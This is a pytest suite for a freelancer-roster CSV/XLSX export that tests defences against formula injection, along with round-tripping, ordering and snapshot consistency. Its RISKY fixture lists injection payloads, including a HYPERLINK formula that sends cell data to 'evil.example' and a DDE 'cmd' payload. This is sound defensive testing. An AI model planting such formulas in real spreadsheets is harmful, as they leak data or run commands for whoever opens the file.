"""GET /api/freelancers/export: the roster as .xlsx or CSV, every value text (never a formula), and an
export imports back unchanged."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from freelance.models import Freelancer
from freelance.roster.export import FORMULA_START, HEADER, write_csv, write_xlsx
from tests.roster.files import TENANT, person

RISKY = [
    ("name", '=HYPERLINK("http://evil.example/?d="&A1,"Click")'),  # a formula that would run
    ("business_name", "+cmd|' /C calc'!A0"),  # DDE through a leading +
    ("business_name", "-2+3"),  # a leading minus
    ("business_name", "@SUM(1+1)"),  # a leading @
    ("phone", "+1 206 555 0134"),  # a phone number starts with + too
    ("tax_id", "-12345"),  # an id that looks like a negative number
    ("address", "=1+1\nSeattle"),  # a formula on the first of several lines
]


SKILLS = ["C, C++", "R&D; Strategy", '"Quoted" work', 'Say "a, b"', "Go"]
"""Skills holding the separators a cell of skills is split on, and quotes."""


@pytest.fixture
def risky_roster(add) -> list[dict]:
    """One freelancer per risky value, one with every optional field filled and a multi-line address, and
    one whose skills hold commas, semicolons and quotes."""
    records = [add(person(i, **{field: value})) for i, (field, value) in enumerate(RISKY)]
    records.append(
        add(
            person(
                99,
                business_name="Angstrom Design LLC",
                phone="+44 20 7946 0958",
                tax_id="GB123456789",
                rate="95.5",
                rate_unit="hour",
                currency="USD",
                skills=["Branding", "Logo design"],
                profile_url="https://www.upwork.com/freelancers/~01zoe",
                status="inactive",
            )
        )
    )
    records.append(add(person(100, skills=SKILLS)))
    return records


def _xlsx_rows(content: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(content))
    try:
        return [[(cell.value, cell.data_type) for cell in row] for row in workbook.worksheets[0].iter_rows()]
    finally:
        workbook.close()


def test_the_xlsx_export_is_a_workbook_of_text_cells_with_the_same_text(client, risky_roster):
    response = client.get("/api/freelancers/export?format=xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == "attachment; filename=roster.xlsx"
    rows = _xlsx_rows(response.data)
    assert [value for value, _ in rows[0]] == list(HEADER)
    by_email = {row[HEADER.index("email")][0]: row for row in rows[1:]}
    assert len(by_email) == len(risky_roster)
    for i, (field, value) in enumerate(RISKY):
        cell_value, data_type = by_email[person(i)["email"]][HEADER.index(field)]
        assert (cell_value, data_type) == (value, "s"), field
    assert all(data_type in ("s", "inlineStr", "n") and data_type != "f" for row in rows for _, data_type in row)


def test_the_csv_export_guards_formula_characters_with_an_apostrophe(client, risky_roster):
    response = client.get("/api/freelancers/export?format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == list(HEADER)
    by_email = {row[HEADER.index("email")]: row for row in rows[1:]}
    for i, (field, value) in enumerate(RISKY):
        assert by_email[person(i)["email"]][HEADER.index(field)] == "'" + value, field
    full = by_email[person(99)["email"]]
    assert Decimal(full[HEADER.index("rate")]) == Decimal("95.5")
    assert dict(zip(HEADER, full)) | {"rate": "95.5"} == {
        "name": "Freelancer 0099",
        "business_name": "Angstrom Design LLC",
        "email": "freelancer0099@example.org",
        "phone": "'+44 20 7946 0958",
        "address": "99 Pike Street\nSeattle, WA 98101",
        "country": "US",
        "tax_id": "GB123456789",
        "rate": "95.5",
        "rate_unit": "hour",
        "currency": "USD",
        "skills": "Branding; Logo design",
        "profile_url": "https://www.upwork.com/freelancers/~01zoe",
        "status": "inactive",
        "signatory_title": "",
    }


def test_no_cell_of_either_export_starts_with_a_formula_character_unguarded(client, risky_roster):
    rows = list(csv.reader(io.StringIO(client.get("/api/freelancers/export?format=csv").data.decode("utf-8-sig"))))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for row in _xlsx_rows(client.get("/api/freelancers/export").data):
        assert all(data_type != "f" for _, data_type in row)


def test_the_export_lists_freelancers_by_name(client, add):
    for i, name in [(1, "Carmen"), (2, "Adam"), (3, "Bao")]:
        add(person(i, name=name))
    rows = list(csv.reader(io.StringIO(client.get("/api/freelancers/export?format=csv").data.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["Adam", "Bao", "Carmen"]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_an_export_larger_than_one_read_batch_lists_everyone_once_by_name(client, roster, format):
    # 1,203 freelancers, most sharing one of three names, so that batches of 500 end inside a run of equal names
    names = ["Ana Silva", "Bo Chen", "Zoe Angstrom"]
    freelancers = [Freelancer.model_validate(person(i, name=names[i % 3])) for i in range(1_203)]
    roster.upsert("local", enumerate(freelancers, start=2), commit=True)
    exported = client.get(f"/api/freelancers/export?format={format}").data
    if format == "csv":
        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    else:
        rows = [[value for value, _ in row] for row in _xlsx_rows(exported)]
    emails = [row[HEADER.index("email")] for row in rows[1:]]
    assert sorted(emails) == sorted(person(i)["email"] for i in range(1_203))  # everyone, once
    assert [row[0] for row in rows[1:]] == sorted(row[0] for row in rows[1:])  # by name


def test_an_empty_roster_exports_its_header_only(client):
    assert [[value for value, _ in row] for row in _xlsx_rows(client.get("/api/freelancers/export").data)] == [
        list(HEADER)
    ]
    assert client.get("/api/freelancers/export?format=csv").data.decode("utf-8-sig").splitlines() == [",".join(HEADER)]


def test_an_unknown_export_format_is_named(client):
    response = client.get("/api/freelancers/export?format=pdf")
    assert response.status_code == 400
    assert response.json["errors"][0]["field"] == "format"


@pytest.mark.parametrize(
    "format, filename",
    [
        ("csv", "roster.csv"),  # CSV, apostrophes and all
        ("xlsx", "roster.xlsx"),  # the workbook
    ],
)
def test_an_export_imports_back_unchanged(client, upload, risky_roster, roster_state, format, filename):
    before = roster_state()
    exported = client.get(f"/api/freelancers/export?format={format}").data
    response = upload(exported, filename)
    assert response.status_code == 200, response.json
    assert response.json == {
        "created": 0,
        "updated": 0,
        "unchanged": len(risky_roster),
        "dry_run": False,
        "ignored_columns": [],
    }
    assert roster_state() == before


@pytest.mark.parametrize(
    "format, filename",
    [
        ("csv", "roster.csv"),  # exported as '=... and imported as =...
        ("xlsx", "roster.xlsx"),  # a text cell '=... imported as =...
    ],
)
def test_a_value_that_starts_with_an_apostrophe_survives_the_round_trip(client, upload, add, format, filename):
    record = add(person(1, business_name="'=quoted' Studio"))
    upload(client.get(f"/api/freelancers/export?format={format}").data, filename)
    assert client.get(f"/api/freelancers/{record['id']}").json["business_name"] == "'=quoted' Studio"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_skills_holding_commas_and_semicolons_survive_the_round_trip(client, upload, add, format):
    record = add(person(1, skills=SKILLS))
    response = upload(client.get(f"/api/freelancers/export?format={format}").data, f"roster.{format}")
    assert response.json["unchanged"] == 1, response.json
    assert client.get(f"/api/freelancers/{record['id']}").json["skills"] == SKILLS


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_an_export_is_the_roster_at_one_moment_whatever_changes_while_it_downloads(app, client, roster, format):
    # Three reads of 500 would each see the roster of their own moment: a freelancer renamed from the end
    # to the start of the alphabet between them would be missed, one renamed the other way listed twice.
    roster.upsert(TENANT, enumerate((Freelancer.model_validate(person(i)) for i in range(1_203)), start=2), commit=True)
    ids = {r.email: str(r.id) for r in roster.each(TENANT)}
    download = app.test_client().get(f"/api/freelancers/export?format={format}", buffered=False)
    chunks = iter(download.response)
    first = next(chunks)  # under way: the server has read the roster
    last, early = person(1_202)["email"], person(0)["email"]
    assert client.patch(f"/api/freelancers/{ids[last]}", json={"name": "Aaron First"}).status_code == 200
    assert client.patch(f"/api/freelancers/{ids[early]}", json={"name": "Zoe Last"}).status_code == 200
    assert client.delete(f"/api/freelancers/{ids[person(600)['email']]}").status_code == 204
    assert client.post("/api/freelancers", json=person(5_000)).status_code == 201
    exported = first + b"".join(chunks)
    download.close()
    if format == "csv":
        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    else:
        rows = [[value for value, _ in row] for row in _xlsx_rows(exported)]
    assert [row[HEADER.index("email")] for row in rows[1:]] == [person(i)["email"] for i in range(1_203)]
    assert [row[0] for row in rows[1:]] == [person(i)["name"] for i in range(1_203)]  # as they were


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_starting_like_a_formula_stays_text_in_both_formats(start):
    # (Tabs and carriage returns cannot reach a record, whose text has no control characters; the
    # writers guard them all the same.)
    rows = [["name"], [start + "1+1"]]
    assert list(csv.reader(io.StringIO("".join(write_csv(iter(rows))).lstrip("\ufeff")))) == [
        ["name"],
        ["'" + start + "1+1"],
    ]
    out = io.BytesIO()
    write_xlsx(iter(rows), out)
    assert _xlsx_rows(out.getvalue())[1] == [(start + "1+1", "s")]
